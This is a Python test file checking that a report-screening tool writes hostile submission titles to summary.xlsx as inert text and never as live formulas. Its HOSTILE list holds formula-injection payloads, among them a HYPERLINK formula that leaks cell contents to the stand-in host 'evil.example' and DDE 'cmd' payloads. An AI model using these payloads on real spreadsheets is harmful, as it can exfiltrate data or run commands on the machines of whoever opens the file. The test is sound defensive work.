"""Formula injection (issue 15): a submission titled `=HYPERLINK(...)` must land in summary.xlsx as text,
never as a live formula. Checked in the workbook's own XML (no `<f>` element anywhere), through
openpyxl (no cell of type f), on the writer and on a real `screen` run."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from service.cli import app
from service.reports.cells import FORMULA_TRIGGERS, cell_value, neutralise
from service.reports.excel import SUMMARY_COLUMNS, write
from service.results import BatchSummary, FileError, MatchRow, SummaryRow

from .conftest import sections, write_docx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(xlsx: Path) -> list[str]:
    """Every <f> element of every sheet: the formulas Excel would run."""
    with zipfile.ZipFile(xlsx) as zf:
        return [
            m.group(0)
            for name in zf.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.finditer(rb"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", zf.read(name))
        ]


def _cells(xlsx: Path) -> list[tuple[str, object]]:
    wb = load_workbook(xlsx)
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_formula_triggers(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert cell_value(text) == "'" + text


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert neutralise("降低包装线停机次数") == "降低包装线停机次数"
    assert cell_value(0.35) == 0.35 and cell_value(None) is None and cell_value(-3) == -3
    assert all(len(t) == 1 for t in FORMULA_TRIGGERS)


def test_writer_never_writes_a_formula(tmp_path: Path) -> None:
    texts = [c.key for c in SUMMARY_COLUMNS if c.kind == "text" and c.key in SummaryRow.model_fields]
    row = SummaryRow(
        submission=HOSTILE[0],
        year=2024,
        **{key: HOSTILE[i % len(HOSTILE)] for i, key in enumerate(texts) if key != "submission"},
        steps_missing=HOSTILE,
        eligibility=HOSTILE[:2],
        score=61.5,
        total_copy_ratio=0.42,
    )
    match = MatchRow(
        submission=HOSTILE[1],
        source=HOSTILE[2],
        source_year="2021",
        source_company=HOSTILE[2],
        source_id="P2021-01",
        kind="复制",
        chars=120,
        score=0.9,
        a_where="第 4–12 张幻灯片",
        b_where=HOSTILE[3],
        a_text=HOSTILE[0],
    )
    error = FileError(code="ingest.corrupt", file=HOSTILE[4] + ".pptx", reason=HOSTILE[5], submission=HOSTILE[1])
    summary = BatchSummary(
        year=2024, submissions=1, failed_files=1, semantic_checked=False, rows=[row], errors=[error], results=[]
    )
    path = write(summary, [match], tmp_path / "summary.xlsx")
    assert _formulas(path) == []
    cells = _cells(path)
    assert all(t != "f" for t, _ in cells)
    assert ("s", "'" + HOSTILE[0]) in cells and ("n", 61.5) in cells


def test_screen_with_hostile_titles_writes_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("QCSCREEN_SEMANTIC", "0")
    batch = tmp_path / "batch"
    write_docx(batch / "S01" / "成果报告.docx", HOSTILE[0], sections(10, "冲压线"))
    write_docx(batch / "S02" / "成果报告.docx", HOSTILE[3], sections(50, "焊接工位"))
    out = tmp_path / "out"
    r = CliRunner().invoke(
        app, ["screen", str(batch), "--year", "2024", "--out", str(out), "--db", str(tmp_path / "c.sqlite")]
    )
    assert r.exit_code == 0, r.output
    xlsx = out / "summary.xlsx"
    assert _formulas(xlsx) == []
    values = [v for t, v in _cells(xlsx) if t == "s"]
    assert "'" + HOSTILE[0] in values and "'" + HOSTILE[3] in values
